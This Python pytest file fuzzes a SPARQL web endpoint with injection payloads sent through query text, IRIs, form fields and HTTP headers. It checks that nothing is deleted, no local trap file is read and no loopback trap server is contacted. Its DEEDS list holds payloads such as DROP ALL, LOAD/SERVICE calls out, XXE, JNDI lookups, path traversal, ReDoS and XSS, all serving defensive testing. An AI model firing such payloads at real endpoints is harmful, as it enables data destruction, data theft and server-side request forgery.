"""Whatever stands in a parameter, the endpoint answers or refuses, and does nothing else."""

import json
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from itertools import product
from pathlib import Path
from urllib.parse import quote

import httpx
import pyoxigraph as ox
import pytest

from tests.interfaces.web.sparql.serving import SESAME, settings, site
from tests.interfaces.web.sparql.suite import SUITES
from tests.loopback import Quiet, running

TOLD = {200, 204, 400, 401, 403, 404, 406, 413, 414, 415, 431}
"""What may be answered: no fault of ours among it."""
FORM = "application/x-www-form-urlencoded"
QUERY = "application/sparql-query"
KEPT = "a secret that no answer holds"
CLOSERS = ('"', "'", '"""', "'''", ">", "}", ")", "\\", "\n#", "\t", "\\u007D", "*/", "} }", "?x")
DEEDS = (
    "} ; DROP ALL ; #",
    "} INSERT DATA { <urn:a> <urn:b> <urn:c> } #",
    "} ; LOAD <ADDRESS> ; #",
    "SERVICE <ADDRESS> { ?s ?p ?o } }",
    "SERVICE SILENT ?any { ?s ?p ?o } VALUES ?any { <ADDRESS> } }",
    "\\u0053ERVICE <ADDRESS> { ?s ?p ?o } }",
    "FROM <FILE> { ?s ?p ?o }",
    "} UNION { GRAPH <FILE> { ?s ?p ?o } }",
    "FILTER(REGEX('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!', '^(a+)+$')) }",
    "} GROUP BY ?x HAVING(1=1) LIMIT 99999999999999999999 OFFSET -1",
    "BIND(<ADDRESS>() AS ?y) } VALUES ?z { UNDEF }",
    "<!ENTITY x SYSTEM 'FILE'> &x;",
    "${jndi:ldap://ADDRESS} {{7*7}} %0d%0aSet-Cookie:a=b",
    "../../../..FILE",
    "<script>alert(1)</script>\u202e\x00\x1b[31m",
)


@dataclass
class Trap:
    """An address and a file which nobody should open."""

    address: str
    file: Path
    opened: list[str] = field(default_factory=list)

    def payloads(self) -> Iterator[str]:
        for closer, deed in product(CLOSERS, DEEDS):
            told = deed.replace("ADDRESS", self.address).replace("FILE", self.file.as_uri())
            yield f"x{closer} {told}"


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Trap]:
    file = tmp_path_factory.mktemp("trap") / "secret"
    file.write_text(f'<urn:a> <urn:b> "{KEPT}" .\n', encoding="utf-8")
    set_up = Trap("", file)

    class Opened(Quiet):
        def setup(self) -> None:
            set_up.opened.append("opened")
            super().setup()

    with running(Opened) as address:
        set_up.address = address
        yield set_up


@pytest.fixture(scope="module")
def target(people: Path) -> Iterator[httpx.Client]:
    """A client of a site that takes updates, from those who know its token."""
    told = settings(people, token=SESAME)
    with site(told) as url, httpx.Client(base_url=url, timeout=30) as client:
        yield client


def posted(name: str) -> Callable[[httpx.Client, str], httpx.Response]:
    return lambda client, text: client.post("/sparql", data={name: text})


def named(name: str) -> Callable[[httpx.Client, str], httpx.Response]:
    return lambda client, text: client.get("/sparql", params={"query": "ASK {}", name: text})


def headed(name: str) -> Callable[[httpx.Client, str], httpx.Response]:
    def ask(client: httpx.Client, text: str) -> httpx.Response:
        plain = "".join(sign for sign in text if " " <= sign <= "~").strip()
        return client.post(
            "/sparql", content=b"ASK {}", headers={"Content-Type": QUERY, name: plain}
        )

    return ask


def in_a_text(client: httpx.Client, text: str) -> httpx.Response:
    return client.get("/sparql", params={"query": f'ASK {{ ?s ?p "{text}" }}'})


def in_an_iri(client: httpx.Client, text: str) -> httpx.Response:
    return client.get("/sparql", params={"query": f"SELECT * {{ <{text}> ?p ?o }}"})


WAYS: Mapping[str, Callable[[httpx.Client, str], httpx.Response]] = {
    "query": posted("query"),
    "a text of a query": in_a_text,
    "an IRI of a query": in_an_iri,
    "update": posted("update"),
    "default graph": named("default-graph-uri"),
    "named graph": named("named-graph-uri"),
    "graphs of an update": posted("using-graph-uri"),
    "format": named("format"),
    "any other field": named("x"),
    "Accept": headed("Accept"),
    "Content-Type": headed("Content-Type"),
    "Authorization": headed("Authorization"),
    "graph": lambda client, text: client.get("/graphs", params={"graph": text}),
    "path of a graph": lambda client, text: client.get(f"/graphs/{quote(text, safe='')}"),
}


@pytest.mark.parametrize("way", WAYS)
def test_what_is_put_into_a_parameter_does_nothing(
    target: httpx.Client, trap: Trap, way: str, *, whole: bool
) -> None:
    before = count(target)
    payloads = list(trap.payloads())[:: 1 if whole else 7]
    answers = [WAYS[way](target, text) for text in payloads]
    assert len(payloads) >= (200 if whole else 30)
    assert {answer.status_code for answer in answers} <= TOLD
    assert not any(KEPT in answer.text for answer in answers)
    assert not any("Traceback" in answer.text for answer in answers)
    assert trap.opened == []
    assert count(target) == before


def test_problems_repeat_nothing(target: httpx.Client, trap: Trap) -> None:
    for text in list(trap.payloads())[::5]:
        for way in WAYS.values():
            answer = way(target, f"zzyzx{text}")
            if answer.headers.get("content-type") == "application/problem+json":
                assert "zzyzx" not in answer.text


def count(client: httpx.Client) -> object:
    query = "SELECT (COUNT(*) AS ?n) { ?s ?p ?o }"
    return client.get("/sparql", params={"query": query}).json()


def naughty() -> Sequence[str]:
    file = SUITES / "blns.json"
    if not file.is_file():
        pytest.skip("needs the shared suites beside the checkout: blns.json")
    found: list[str] = json.loads(file.read_text(encoding="utf-8"))
    return found


def test_naughty_texts_come_back_as_they_were(client: httpx.Client) -> None:
    texts = [text for text in naughty() if "\0" not in text]
    for some in (texts[at : at + 40] for at in range(0, len(texts), 40)):
        values = " ".join(f"({place} {ox.Literal(text)})" for place, text in enumerate(some))
        query = f"SELECT ?text {{ VALUES (?place ?text) {{ {values} }} }} ORDER BY ?place"
        assert rows(client, query, "application/sparql-results+json") == some
        assert rows(client, query, "text/tab-separated-values") == some


def rows(client: httpx.Client, query: str, accept: str) -> list[str]:
    response = client.post("/sparql", data={"query": query}, headers={"Accept": accept})
    form = ox.QueryResultsFormat.from_media_type(accept)
    assert form is not None
    found = ox.parse_query_results(response.content, format=form)
    assert isinstance(found, ox.QuerySolutions)
    terms = [row["text"] for row in found]
    return [term.value for term in terms if isinstance(term, ox.Literal)]


def test_naughty_texts_do_no_harm_in_any_parameter(target: httpx.Client, *, whole: bool) -> None:
    texts = naughty()[:: 1 if whole else 10]
    answers = [WAYS[way](target, text) for text in texts for way in WAYS]
    assert {answer.status_code for answer in answers} <= TOLD
